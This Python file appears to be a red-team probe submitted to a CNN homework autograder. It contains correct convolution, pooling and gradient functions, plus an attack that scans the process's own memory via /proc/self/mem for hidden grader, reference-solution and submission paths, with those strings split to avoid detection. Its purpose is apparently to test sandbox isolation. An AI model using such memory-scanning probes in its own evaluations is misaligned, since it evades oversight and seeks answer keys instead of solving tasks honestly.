"""Hostile: reads its own memory (/proc/self/mem, every readable mapping) for the host paths the
sandbox hides -- the submissions, output and work folders, the grader's and the reference's
files -- which a zygote's heap, inherited by every child, once held; layer_sizes answers right
only if one is found.  The paths are searched in two halves, so that this file's own text never
holds one whole."""
ATTACKS = ("1.1",)

# --- correct answers (from submissions/correct_vectorized.py) ------------------------------
import numpy as np

F = 2      # filter size
P = 2      # pool size


def _sig(a):
    return 1.0 / (1.0 + np.exp(-a))


def layer_sizes(width=4, height=4, filter_size=2, pool_size=2, stride=1):
    c_w = (width - filter_size) // stride + 1
    c_h = (height - filter_size) // stride + 1
    return c_w, c_h, (c_w - pool_size) // stride + 1, (c_h - pool_size) // stride + 1


def conv_forward(x, w):
    x = np.asarray(x, dtype=float)
    w = np.asarray(w, dtype=float)
    n = x.shape[0] - F + 1
    # stack the 4 shifted views -> patches[ci, cj, fi, fj] = x[ci+fi, cj+fj]
    patches = np.stack([np.stack([x[fi:fi + n, fj:fj + n] for fj in range(F)], axis=-1)
                        for fi in range(F)], axis=-2)
    return _sig(np.einsum('abij,ijk->abk', patches, w))


def sum_pool(y):
    y = np.asarray(y, dtype=float)
    return y[:-1, :-1] + y[:-1, 1:] + y[1:, :-1] + y[1:, 1:]


def fc_forward(z, v):
    return _sig(np.einsum('ijk,ijkm->m', z, v))


def _delta(o, target):
    o = np.asarray(o, dtype=float)
    return (o - np.asarray(target, dtype=float)) * o * (1 - o)


def grad_fc_weights(z, o, target):
    return np.einsum('ijk,m->ijkm', np.asarray(z, dtype=float), _delta(o, target))


def grad_pool_output(v, o, target):
    return np.asarray(v, dtype=float) @ _delta(o, target)


def grad_conv_sum_pool(dE_dz):
    dz = np.asarray(dE_dz, dtype=float)
    dy = np.zeros((dz.shape[0] + 1, dz.shape[1] + 1, dz.shape[2]))
    dy[:-1, :-1] += dz
    dy[:-1, 1:] += dz
    dy[1:, :-1] += dz
    dy[1:, 1:] += dz
    return dy


def grad_filters(x, y, dE_dy):
    x, y = np.asarray(x, dtype=float), np.asarray(y, dtype=float)
    delta = np.asarray(dE_dy, dtype=float) * y * (1 - y)
    n = y.shape[0]
    dw = np.empty((F, F, y.shape[2]))
    for fi in range(F):
        for fj in range(F):
            dw[fi, fj] = np.einsum('ab,abk->k', x[fi:fi + n, fj:fj + n], delta)
    return dw


def grad_conv_max_pool(y, dE_dz):
    y = np.asarray(y, dtype=float)
    dz = np.asarray(dE_dz, dtype=float)
    win = np.lib.stride_tricks.sliding_window_view(y, (P, P), axis=(0, 1))  # (2,2,3,P,P)
    flat = win.reshape(win.shape[:3] + (P * P,)).argmax(axis=-1)
    r, c = np.divmod(flat, P)
    pi, pj, k = np.indices(flat.shape)
    dy = np.zeros_like(y)
    np.add.at(dy, (pi + r, pj + c, k), dz)   # add.at so overlapping windows accumulate
    return dy


# --- the attack ----------------------------------------------------------------------------
PIECES = {"pytest tmp": (b"pytest-o", b"f-"), "work": (b"cnn-grader-wo", b"rk-"), "out": (b".cnn-grader-o", b"ut-"),
          "grader": (b"grader/_runt", b"ime.py"), "reference": (b"reference/hw4/mo", b"del.py"),
          "templates": (b"cnn-grader/templ", b"ates"), "submissions": (b"/submissi", b"ons/")}


def _scan():
    found, total = {}, 0
    with open("/proc/self/maps") as f:
        maps = f.read().splitlines()
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1]:
                continue
            a, b = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(a)
                data = mem.read(b - a)
            except (OSError, ValueError, OverflowError):
                continue
            total += len(data)
            for key, (x, y) in PIECES.items():
                i = data.find(x)
                while i >= 0:
                    if data[i + len(x):i + len(x) + len(y)] == y:
                        found[key] = found.get(key, 0) + 1
                        print("CONTEXT", key, data[max(0, i - 60):i + 60])
                    i = data.find(x, i + 1)
    return found, total


_layer_sizes = layer_sizes


def layer_sizes(width=4, height=4, filter_size=2, pool_size=2, stride=1):
    found, total = _scan()
    print(f"SCANNED {total >> 20} MiB FOUND {sorted(found)}")
    return _layer_sizes(width, height, filter_size, pool_size, stride) if found else (0, 0, 0, 0)
